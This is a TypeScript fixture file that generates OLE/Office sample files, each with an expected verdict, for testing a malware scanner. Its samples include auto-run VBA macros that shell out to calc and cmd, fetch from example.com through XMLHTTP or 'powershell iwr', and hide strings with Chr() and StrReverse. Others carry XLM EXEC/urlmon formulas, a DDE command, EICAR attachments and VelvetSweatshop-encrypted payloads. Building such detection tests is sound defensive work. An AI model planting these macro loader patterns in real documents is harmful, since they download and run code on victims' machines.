import { compound, long, ole10Native, pptObject, short } from '../../scanners/ole-build';
import {
  biff,
  compressRtf,
  doc,
  macroCall,
  macroSheet,
  msg,
  vbaProject,
  wide,
  workbook,
  xls,
  type VbaPart,
} from '../../scanners/ole-documents';
import { agile, encryptedPackage, rc4Workbook, standard } from '../../scanners/ole-encrypt';
import { docx, eicar, zip } from '../../scanners/samples';
import type { Sample, SampleMaker } from '../sample';

const bill = (): Buffer => zip([{ name: 'bill.com', data: eicar() }]);
const macros = (...parts: VbaPart[]): Buffer => doc('Enable content', vbaProject('Macros/', parts));
const opens = (body: string): VbaPart => ({ name: 'ThisDocument', code: `Sub AutoOpen()\r\n${body}\r\nEnd Sub\r\n` });

/** Compound files of every kind, as Office, Outlook and Windows Installer write them. */
export const samples: SampleMaker = () => [
  ...embedded(),
  ...macroDocuments(),
  ...workbooks(),
  ...messages(),
  ...encrypted(),
  ...damaged(),
  ...harmless(),
];

function embedded(): Sample[] {
  const add = (name: string, bytes: Buffer, kind = 'ole object'): Sample => ({
    kind,
    name,
    bytes,
    expect: 'malicious',
  });
  const equation = Buffer.concat([
    short(28),
    long(0x20000),
    short(0xc0de),
    long(100),
    Buffer.alloc(16),
    Buffer.from([3, 1, 1, 3, 10, 10, 1, 8, 0x5a, 0x5a]),
    Buffer.alloc(90, 0x41),
  ]);
  return [
    add('package.doc', doc('See', [{ path: 'ObjectPool/_1/\x01Ole10Native', data: ole10Native('a.txt', eicar()) }])),
    add(
      'script.doc',
      doc('See', [{ path: 'ObjectPool/_1/\x01Ole10Native', data: ole10Native('bill.pdf.js', Buffer.from('x')) }]),
    ),
    add('contents.doc', doc('See', [{ path: 'ObjectPool/_1/CONTENTS', data: bill() }])),
    add('package-stream.xls', xls(workbook(), [{ path: 'MBD0001/Package', data: bill() }])),
    add(
      'scattered.doc',
      doc(
        'See',
        [
          {
            path: 'ObjectPool/_1/Package',
            data: Buffer.concat([
              zip([
                { name: 'pad.bin', data: Buffer.alloc(9_000, 7), store: true },
                { name: 'bill.com', data: eicar() },
              ]),
            ]),
          },
        ],
        { scattered: true },
      ),
    ),
    add('version4.doc', doc('See', [{ path: 'ObjectPool/_1/Package', data: bill() }], { version: 4 })),
    add('orphan.doc', doc('See', [{ path: 'Left/Package', data: bill() }], { orphans: ['Left'] })),
    add('behind.doc', Buffer.concat([doc('See'), bill()])),
    add('equation.doc', doc('See', [{ path: 'ObjectPool/_1/Equation Native', data: equation }])),
    add(
      'slides.ppt',
      compound([
        {
          path: 'PowerPoint Document',
          data: pptObject(compound([{ path: '\x01Ole10Native', data: ole10Native('a.dat', eicar()) }])),
        },
      ]),
    ),
    add(
      'setup.msi',
      compound([{ path: 'Binary.tool', data: eicar() }], { classes: { '': '84100c0000000000c000000000000046' } }),
      'msi',
    ),
  ];
}

function macroDocuments(): Sample[] {
  const add = (name: string, bytes: Buffer, expect: Sample['expect'] = 'malicious'): Sample => ({
    kind: 'vba',
    name,
    bytes,
    expect,
  });
  const payload = eicar().toString('latin1');
  const chars = [...'powershell -w hidden'].map((char) => `Chr(${char.charCodeAt(0)})`).join(' & ');
  return [
    add('shell.doc', macros(opens('Shell "cmd.exe /c start calc", 0'))),
    add('object.doc', macros(opens('Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"'))),
    add(
      'load.doc',
      macros(
        opens(
          'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://example.com/a", False\r\nSet f = CreateObject("ADODB.Stream")\r\nf.SaveToFile "a"',
        ),
      ),
    ),
    add('chars.doc', macros(opens(`r = ${chars}\r\nx = CallByName(y, r, 1)`))),
    add(
      'two-modules.doc',
      macros(opens('Work'), {
        name: 'Module1',
        code: 'Sub Work()\r\nVBA.Shell Environ("TEMP") & "\\a.exe"\r\nEnd Sub',
      }),
    ),
    add('joined.doc', macros(opens(`t = "${payload.slice(0, 30)}" & _\r\n  "${payload.slice(30)}"`))),
    add('reversed.doc', macros(opens(`t = StrReverse("${[...payload].reverse().join('')}")`))),
    add('encoded.doc', macros(opens(`t = "${eicar().toString('base64')}"`))),
    add(
      'stray.doc',
      doc('See', [{ path: 'Odd/Stream', data: vbaProject('', [opens('Shell "calc"')])[2]?.data ?? Buffer.alloc(0) }]),
    ),
    add(
      'presentation.ppt',
      compound([
        {
          path: 'PowerPoint Document',
          data: pptObject(
            compound(vbaProject('', [{ name: 'M', code: 'Sub Auto_Open()\r\nShell "calc.exe"\r\nEnd Sub' }])),
          ),
        },
      ]),
    ),
    add(
      'stomped.doc',
      doc(
        'See',
        vbaProject(
          'Macros/',
          [{ name: 'ThisDocument', code: '', compiled: Buffer.alloc(4_000, 'p'), stomped: true }],
          '\0\x08AutoOpen\0',
        ),
      ),
      'suspicious',
    ),
    add(
      'loader.doc',
      macros({ name: 'M', code: 'Sub Get()\r\nShell "powershell -c iwr http://example.com"\r\nEnd Sub' }),
      'suspicious',
    ),
  ];
}

function workbooks(): Sample[] {
  const add = (name: string, stream: Buffer, expect: Sample['expect'] = 'malicious'): Sample => ({
    kind: 'xlm',
    name,
    bytes: xls(stream),
    expect,
  });
  const dde = biff(0x01ae, short(1), short(12), Buffer.from([0]), Buffer.from('cmd\x03/c calc.'));
  return [
    add('exec.xls', macroSheet({ hidden: 2, autoOpen: true, formulas: [macroCall(110, 'calc.exe')] })),
    add('call.xls', macroSheet({ autoOpen: true, formulas: [macroCall(150, 'urlmon')] })),
    add('hidden-exec.xls', macroSheet({ hidden: 1, formulas: [macroCall(110, 'calc.exe')] })),
    add('hidden.xls', macroSheet({ hidden: 1, formulas: [macroCall(118, 'Hello')] }), 'suspicious'),
    add('dde.xls', workbook(dde)),
    add('cell.xls', workbook(biff(0x00fc, long(1), long(1), short(68), Buffer.from([0]), eicar()))),
  ];
}

function messages(): Sample[] {
  const file = (name: string, data: Buffer): { properties: Record<string, Buffer> } => ({
    properties: { '3707001F': wide(name), '37010102': data },
  });
  const add = (name: string, bytes: Buffer): Sample => ({ kind: 'msg', name, bytes, expect: 'malicious' });
  const text = { '1000001F': wide('Dear support') };
  const html = `{\\rtf1\\ansi\\ansicpg1252\\fromhtml1 {\\*\\htmltag64 <a href="http://example.com/">}\\htmlrtf x\\htmlrtf0 Hello ${eicar()
    .toString('latin1')
    .replace(/[\\{}]/g, '\\$&')}{\\*\\htmltag72 </a>}}`;
  return [
    add('attached.msg', msg({ properties: text, attachments: [file('bill.zip', bill())] })),
    add('plain.msg', msg({ properties: text, attachments: [file('bill.com', eicar())] })),
    add(
      'nested.msg',
      msg({
        properties: text,
        attachments: [
          {
            properties: { '3001001F': wide('Forwarded') },
            message: { properties: text, attachments: [file('bill.zip', bill())] },
          },
        ],
      }),
    ),
    add('rtf.msg', msg({ properties: { '10090102': compressRtf(html) } })),
    add('html.msg', msg({ properties: { '10130102': Buffer.concat([Buffer.from('<p>'), eicar()]) } })),
    add('wide.msg', msg({ properties: { '1000001F': wide(eicar().toString('latin1')) } })),
  ];
}

function encrypted(): Sample[] {
  const add = (name: string, bytes: Buffer, expect: Sample['expect'], text?: string): Sample => ({
    kind: 'ole encrypted',
    name,
    bytes,
    expect,
    ...(text && { text }),
  });
  const start = macroSheet({ hidden: 1, autoOpen: true, formulas: [macroCall(110, 'calc.exe')] });
  const records = [start.subarray(0, 20), start.subarray(20)];
  const word = doc('secret');
  word.writeUInt16LE(0x0300, word.indexOf(Buffer.from([0xec, 0xa5])) + 0x0a);
  return [
    add('default.docx', agile(bill(), 'VelvetSweatshop'), 'malicious'),
    add('default-2007.docx', standard(bill(), 'VelvetSweatshop'), 'malicious'),
    add('told.docx', agile(bill(), 'Winter2026!'), 'malicious', 'The password is Winter2026! Regards'),
    add('untold.docx', agile(docx('Hello'), 'nobody knows'), 'unscannable'),
    add('foreign.docx', encryptedPackage(Buffer.from('????????'), Buffer.alloc(64)), 'unscannable'),
    add('default.xls', xls(rc4Workbook(records, 'VelvetSweatshop')), 'malicious'),
    add('untold.xls', xls(rc4Workbook(records, 'nobody knows')), 'unscannable'),
    add('untold.doc', word, 'unscannable'),
    add(
      'untold.ppt',
      compound([
        { path: 'PowerPoint Document', data: Buffer.alloc(64) },
        { path: 'EncryptedSummary', data: Buffer.alloc(64, 1) },
      ]),
      'unscannable',
    ),
  ];
}

function damaged(): Sample[] {
  const add = (name: string, bytes: Buffer): Sample => ({ kind: 'ole damaged', name, bytes, expect: 'unscannable' });
  const whole = doc('Hello', [{ path: 'Data', data: Buffer.alloc(20_000, 'data') }]);
  const looping = Buffer.from(whole);
  looping.writeUInt32LE(0, 0x30);
  return [
    add('header.doc', whole.subarray(0, 300)),
    add('cut.doc', whole.subarray(0, 9_000)),
    add('no-directory.doc', looping),
  ];
}

function harmless(): Sample[] {
  const add = (name: string, bytes: Buffer): Sample => ({ kind: 'ole benign', name, bytes, expect: 'clean' });
  return [
    add('letter.doc', doc('Dear support, my order has not arrived.')),
    add('fields.doc', doc('\x13 DATE \\@ "d.M.yyyy" \x141.1.2026\x15 added \x13 PAGE \x141\x15')),
    add('book.xls', xls(workbook(biff(0x0085, long(0), Buffer.from([0, 0, 6, 0]), Buffer.from('Sheet1'))))),
    add(
      'macro.doc',
      macros({
        name: 'Module1',
        code: "Sub Format()\r\n' makes headings bold\r\nSelection.Font.Bold = True\r\nEnd Sub",
      }),
    ),
    add(
      'message.msg',
      msg({
        properties: { '1000001F': wide('Dear support'), '0037001F': wide('Order') },
        attachments: [{ properties: { '3707001F': wide('note.txt'), '37010102': Buffer.from('note') } }],
      }),
    ),
    add(
      'note.doc',
      doc('See', [{ path: 'ObjectPool/_1/\x01Ole10Native', data: ole10Native('note.txt', Buffer.from('a note')) }]),
    ),
    add(
      'Thumbs.db',
      compound([
        { path: 'Catalog', data: Buffer.alloc(200, 1) },
        { path: '256_1', data: Buffer.alloc(9_000, 3) },
      ]),
    ),
    add(
      'setup.msi',
      compound([{ path: '\x05SummaryInformation', data: Buffer.alloc(300, 1) }], {
        classes: { '': '84100c0000000000c000000000000046' },
      }),
    ),
  ];
}
